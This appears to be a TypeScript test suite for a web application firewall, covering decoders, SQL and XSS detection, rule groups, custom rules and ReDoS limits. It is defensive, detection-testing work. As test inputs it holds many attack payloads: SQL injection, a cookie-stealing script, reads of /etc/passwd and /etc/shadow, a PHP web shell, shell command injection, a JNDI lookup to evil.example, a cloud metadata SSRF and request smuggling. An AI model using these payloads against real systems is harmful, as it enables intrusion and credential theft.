import { cmdLine, htmlEntityDecode, jsDecode, normalizePath, removeComments, standard, urlDecodeUni } from './decode';
import { DEFAULT_LIMITS, WafEngine, type WafConfig } from './engine';
import { INJECTION_RULES } from './rules/injection';
import { PROTOCOL_VALUE_RULES } from './rules/protocol';
import { detectSqli } from './sqli';
import type { WafRequest } from './targets';
import { assertLinearPattern, parseCustomRules, WAF_EXCLUSIONS } from './waf-config';
import { detectXss } from './xss';

const CONFIG: WafConfig = { mode: 'prevention', paranoia: 1, threshold: 5, limits: DEFAULT_LIMITS, exclusions: WAF_EXCLUSIONS };
const engine = new WafEngine(CONFIG);

function bodyOf(o: { body?: Buffer; json?: unknown; form?: string; contentType?: string }): { body?: Buffer; contentType?: string } {
  if (o.json !== undefined) return { body: Buffer.from(JSON.stringify(o.json)), contentType: o.contentType ?? 'application/json' };
  if (o.form !== undefined) return { body: Buffer.from(o.form), contentType: o.contentType ?? 'application/x-www-form-urlencoded' };
  return { body: o.body, contentType: o.contentType };
}

function request(o: Partial<WafRequest> & { json?: unknown; form?: string; contentType?: string } = {}): WafRequest {
  const { body, contentType } = bodyOf(o);
  const raw = o.rawHeaders ?? [
    'Host', 'localhost:8080', 'User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0', 'Accept', 'application/json',
    ...(contentType ? ['Content-Type', contentType] : []), ...(body ? ['Content-Length', String(body.length)] : []),
  ];
  const headers: Record<string, string> = {};
  for (let i = 0; i < raw.length; i += 2) headers[raw[i].toLowerCase()] ??= raw[i + 1];
  return { method: o.method ?? (body ? 'POST' : 'GET'), url: o.url ?? '/api/v1/things', httpVersion: o.httpVersion ?? '1.1', headers, rawHeaders: raw, remoteAddress: '127.0.0.1', body };
}

function blockedBy(req: WafRequest): number[] {
  const v = engine.inspect(req);
  return v.anomalous ? v.hits.map((h) => h.id) : [];
}

function q(value: string): WafRequest {
  return request({ url: `/api/v1/things?q=${encodeURIComponent(value)}` });
}

describe('decoding transformations', () => {
  it('should URL-decode %XX, %uXXXX and plus, leaving broken escapes as they are', () => {
    expect(urlDecodeUni('a%20b+c%u0041%zz%')).toBe('a b cA%zz%');
    expect(urlDecodeUni('%c3%a9')).toBe('é');
  });

  it('should decode HTML entities with and without semicolons, hex and decimal', () => {
    expect(htmlEntityDecode('&lt;&#x73;&#99&colon;&amp;')).toBe('<sc:&');
  });

  it('should decode JavaScript escapes', () => {
    expect(jsDecode('\\x3cscript\\u003e\\101')).toBe('<script>A');
  });

  it('should remove SQL comments but keep MySQL executable comment content', () => {
    expect(removeComments('un/**/ion /*!50000select*/ 1-- x')).toBe('un ion  select  1 ');
  });

  it('should normalize paths with backslashes and dot segments, counting escapes above the root', () => {
    expect(normalizePath('/a/./b/../../../etc//passwd')).toBe('/../etc/passwd');
    expect(normalizePath('a\\b\\..\\c')).toBe('a/c');
  });

  it('should fold shell evasions in cmdLine', () => {
    expect(cmdLine("c'a't${IFS}/etc/pa\\sswd")).toBe('cat/etc/passwd');
  });

  it('should chain URL, HTML, JS and Unicode decoding in the standard pipeline', () => {
    expect(standard('%26lt;ＳＣＲＩＰＴ%26gt;')).toBe('<script>');
  });
});

describe('SQL tokenizer', () => {
  it.each([["1' or '1'='1"], ['1 or 1=1'], ["admin'--"], ['1 union all select null,null'], ["x'; drop table users--"], ['1 and sleep(5)'], ['(select 1 from dual)']])(
    'should read %p as injected SQL',
    (v) => expect(detectSqli(v)).toBeDefined(),
  );

  it.each([["O'Brien"], ['order by date, then by name'], ['Please select the best option from the list'], ["Don't forget the meeting or the lunch"], ['1 or 2 items']])(
    'should read %p as text',
    (v) => expect(detectSqli(v.toLowerCase())).toBeUndefined(),
  );
});

describe('HTML reader (XSS)', () => {
  it.each([['<script>alert(1)</script>'], ['<img src=x onerror=alert(1)>'], ['<a href="javascript:alert(1)">x</a>'], ['<svg/onload=alert(1)>'], ['" onmouseover="alert(1)'], ['<iframe srcdoc="x">']])(
    'should flag %p',
    (v) => expect(detectXss(v)).toBeDefined(),
  );

  it.each([['use <b>bold</b> and <i>italic</i>'], ['a < b > c'], ['<img src="/logo.png" alt="logo">'], ['Never insert untrusted data into a <script> block; escape < and > properly.']])(
    'should let %p through',
    (v) => expect(detectXss(v.toLowerCase())).toBeUndefined(),
  );
});

describe('rule groups (paranoia level 1, prevention)', () => {
  it.each([
    ['sqli', "1' UNION SELECT password FROM users--", 942100],
    ['sqli', "1; EXEC xp_cmdshell 'dir'", 942140],
    ['xss', '<script>document.location="http://x/"+document.cookie</script>', 941100],
    ['lfi', '../../../../etc/passwd', 930110],
    ['lfi', '/proc/self/environ', 930120],
    ['rfi', 'http://192.168.1.20/shell.txt?', 931100],
    ['rce', 'foo; cat /etc/passwd', 932230],
    ['rce', '$(whoami)', 932130],
    ['php', '<?php system($_GET["c"]); ?>', 933100],
    ['php', 'O:8:"stdClass":1:{s:1:"a";i:1;}', 933170],
    ['node', "require('child_process').exec('id')", 934100],
    ['node', '__proto__[admin]=1', 934130],
    ['ssrf', 'http://169.254.169.254/latest/meta-data/', 934110],
    ['java', '${jndi:ldap://evil.example/a}', 944150],
    ['java', 'java.lang.Runtime.getRuntime().exec("id")', 944100],
  ])('%s: should block %p (rule %d)', (_group, payload, rule) => {
    expect(blockedBy(q(payload))).toContain(rule);
  });

  it('should inspect JSON bodies value by value, with key paths as names', () => {
    const v = engine.inspect(request({ json: { items: [{ name: 'ok' }, { name: "x' or '1'='1" }] } }));
    expect(v.anomalous).toBe(true);
    expect(v.hits.find((h) => h.id === 942100)?.target).toBe('json.items.1.name');
  });

  it('should inspect form, multipart and XML bodies', () => {
    expect(blockedBy(request({ form: 'a=1&b=%3Cscript%3Ealert(1)%3C%2Fscript%3E' }))).toContain(941100);
    const mp = '--XX\r\nContent-Disposition: form-data; name="c"\r\n\r\n; cat /etc/shadow\r\n--XX--\r\n';
    expect(blockedBy(request({ body: Buffer.from(mp), contentType: 'multipart/form-data; boundary=XX' }))).toContain(932230);
    const xml = '<a><b attr="1 union select 1,2 from users"/></a>';
    expect(blockedBy(request({ body: Buffer.from(xml), contentType: 'application/xml' }))).toContain(942100);
  });

  it('should inspect cookies and the path', () => {
    expect(blockedBy(request({ url: '/api/v1/x', rawHeaders: ['Host', 'h', 'Cookie', 'sid=1%27%20or%20%271%27%3D%271'] }))).toContain(942100);
    expect(blockedBy(request({ url: '/files/..%2f..%2f..%2fetc%2fpasswd' }))).toContain(930100);
  });

  it('should enforce the protocol: methods, content types, smuggling, header injection, scanners', () => {
    expect(blockedBy(request({ method: 'TRACE' }))).toContain(911100);
    expect(blockedBy(request({ body: Buffer.from('x'), contentType: 'application/x-evil' }))).toContain(920420);
    expect(blockedBy(q('x\r\n\r\nGET /admin HTTP/1.1\r\nHost: a'))).toContain(921110);
    expect(blockedBy(q('x\r\nSet-Cookie: a=b'))).toContain(921120);
    expect(blockedBy(request({ rawHeaders: ['Host', 'h', 'User-Agent', 'sqlmap/1.7'] }))).toContain(913100);
    expect(blockedBy(request({ method: 'GET', rawHeaders: ['Host', 'h', 'Content-Length', '5'], body: Buffer.from('abcde') }))).toContain(920170);
  });

  it('should count arguments and their sizes', () => {
    const many = Array.from({ length: 300 }, (_, i) => `a${i}=1`).join('&');
    expect(blockedBy(request({ url: `/x?${many}` }))).toContain(920380);
    expect(blockedBy(request({ url: `/x?${'n'.repeat(150)}=1` }))).toContain(920360);
  });

  it('should let ordinary admin traffic through', () => {
    expect(blockedBy(request({ json: { name: 'Acme GmbH', description: 'Order by date, then by name; see the FAQ.', tags: ['a', 'b'], limit: 20 } }))).toEqual([]);
    expect(blockedBy(request({ method: 'PATCH', json: { notes: "O'Brien's team will select a date from the calendar" } }))).toEqual([]);
    expect(blockedBy(request({ url: '/api/v1/companies?limit=20&offset=40&sort=-createdAt&q=alice%40example.com' }))).toEqual([]);
    expect(blockedBy(request({ method: 'DELETE', url: '/api/v1/projects/3f1c2e9a-1111-2222-3333-444455556666' }))).toEqual([]);
    // an OIDC provider on loopback (local setups, the e2e suites)
    expect(blockedBy(request({ method: 'PUT', json: { issuer: 'http://127.0.0.1:43123', clientId: 'fleet', clientSecret: 's3cret' } }))).toEqual([]);
    expect(blockedBy(request({ url: '/api/v1/auth/oidc/start?realm=company&redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2Fcb' }))).toEqual([]);
  });

  it('should skip the code-injection groups for catalog BPMN and expression fields only', () => {
    const bpmn = { content: '<bpmn:conditionExpression>${amount > 1000 && region != "EU"}</bpmn:conditionExpression><script>x()</script>' };
    expect(blockedBy(request({ url: '/api/v1/projects/p1/catalog/artifacts', json: bpmn }))).toEqual([]);
    expect(blockedBy(request({ url: '/api/v1/projects/p1/catalog/artifacts', json: { name: '<script>alert(1)</script>' } }))).toContain(941100);
    expect(blockedBy(request({ url: '/api/v1/other', json: bpmn }))).not.toEqual([]);
  });

  it("should skip them too for a commit's nested artifact content, never for its names", () => {
    const commit = (content: unknown, name = 'approve') => ({ parentVersion: 1, message: 'm', changes: [{ op: 'add', kind: 'process', name, displayName: name, content }] });
    const xml = '<bpmn:conditionExpression>${amount > 1000 && region != "EU"}</bpmn:conditionExpression><script>x()</script>';
    expect(blockedBy(request({ url: '/api/v1/projects/p1/catalog/commits', json: commit(xml) }))).toEqual([]);
    expect(blockedBy(request({ url: '/api/v1/projects/p1/catalog/commits', json: commit(xml, '<script>alert(1)</script>') }))).toContain(941100);
  });

  it('should let a catalog commit of thousands of values through, and still count arguments elsewhere', () => {
    const changes = Array.from({ length: 1000 }, (_, i) => ({ op: 'add', kind: 'rule', name: `rule_${i}`, displayName: `Rule ${i}`, content: { expression: `amount > ${i}`, resultType: 'boolean' } }));
    const body = { parentVersion: 0, message: 'bulk', changes };
    expect(blockedBy(request({ url: '/api/v1/projects/p1/catalog/commits', json: body }))).toEqual([]);
    expect(blockedBy(request({ url: '/api/v1/projects/p1/users', json: body }))).toContain(920380);
  });

  it('should only log in detection mode: the verdict is the same, the caller decides', () => {
    const detect = new WafEngine({ ...CONFIG, mode: 'detection' });
    expect(detect.inspect(q("1' or '1'='1")).anomalous).toBe(true);
  });

  it('should run more rules at higher paranoia levels', () => {
    const pl1 = new WafEngine({ ...CONFIG, paranoia: 1 }).rules().length;
    const pl4 = new WafEngine({ ...CONFIG, paranoia: 4 }).rules().length;
    expect(pl4).toBeGreaterThan(pl1);
    expect(new WafEngine({ ...CONFIG, paranoia: 2 }).inspect(q('select char(65)')).hits.map((h) => h.id)).toContain(942150);
    expect(engine.inspect(q('select char(65)')).hits.map((h) => h.id)).not.toContain(942150);
  });
});

describe('custom rules', () => {
  it('should parse IP deny lists per environment and header/URI patterns', () => {
    const c = parseCustomRules(JSON.stringify({ denyIps: ['203.0.113.0/24'], environments: { E1: { denyIps: ['10.1.2.3'] } }, rules: [{ id: 100001, header: 'X-Evil', pattern: '^yes$' }] }));
    expect(c.denyIps[0].text).toBe('203.0.113.0/24');
    expect(c.envDenyIps.get('e1')?.[0].text).toBe('10.1.2.3');
    expect(c.rules[0].pattern.test('YES')).toBe(true);
  });

  it('should refuse patterns that could backtrack and ids outside the custom range', () => {
    expect(() => assertLinearPattern('(a+)+$')).toThrow(/backtrack/);
    expect(() => assertLinearPattern('(\\w+\\s?)*x')).toThrow(/backtrack/);
    expect(() => assertLinearPattern('(a)\\1')).toThrow(/back-reference/);
    expect(() => parseCustomRules(JSON.stringify({ rules: [{ id: 5, uri: true, pattern: 'x' }] }))).toThrow(/100000/);
  });
});

describe('bounded time on hostile input (ReDoS)', () => {
  const rules = [...INJECTION_RULES, ...PROTOCOL_VALUE_RULES];

  it('should have no regex with a quantified group that contains a quantifier (star height 1)', () => {
    const offenders = rules
      .filter((r) => r.test instanceof RegExp)
      .filter((r) => {
        const source = (r.test as RegExp).source;
        // the check reads innermost groups only, so long word lists are fine to test in 512-character windows
        for (let i = 0; i < source.length; i += 256) {
          try {
            assertLinearPattern(source.slice(i, i + 512));
          } catch (err) {
            if (!/longer/.test((err as Error).message)) return true;
          }
        }
        return false;
      })
      .map((r) => r.id);
    expect(offenders).toEqual([]);
  });

  const hostile = [
    'a'.repeat(32_768),
    ' '.repeat(32_768),
    `${'<'.repeat(16_384)}${' '.repeat(16_384)}`,
    `${'$('.repeat(10_000)}`,
    `${'${'.repeat(10_000)}`,
    `${"'".repeat(10_000)}${' or '.repeat(3_000)}`,
    `${'/*'.repeat(10_000)}`,
    `${'%25'.repeat(10_000)}`,
    `${'&#'.repeat(10_000)}`,
    `${'\\x'.repeat(10_000)}`,
    `<a ${'x='.repeat(10_000)}`,
    `${'java.'.repeat(6_000)}`,
    `${'../'.repeat(10_000)}`,
    `${'\r\n'.repeat(10_000)}a: b`,
    `${'('.repeat(10_000)}select`,
  ];

  it.each(hostile.map((h, i) => [i, h]))('should judge hostile value #%d in bounded time', (_i, value) => {
    const started = process.hrtime.bigint();
    engine.inspect(request({ url: `/x?q=${encodeURIComponent(value as string)}` }));
    engine.inspect(request({ json: { v: value } }));
    const ms = Number(process.hrtime.bigint() - started) / 1e6;
    expect(ms).toBeLessThan(1500);
  });

  it('should judge a 1 MiB body and 10,000-deep JSON in bounded time', () => {
    const big = Buffer.from(JSON.stringify({ text: 'lorem ipsum dolor sit amet, '.repeat(37_000) }));
    const deep = Buffer.from(`${'['.repeat(10_000)}${']'.repeat(10_000)}`);
    const started = process.hrtime.bigint();
    engine.inspect(request({ body: big, contentType: 'application/json' }));
    const verdict = engine.inspect(request({ body: deep, contentType: 'application/json' }));
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(3000);
    expect(verdict.hits.map((h) => h.id)).toContain(920410);
  });
});
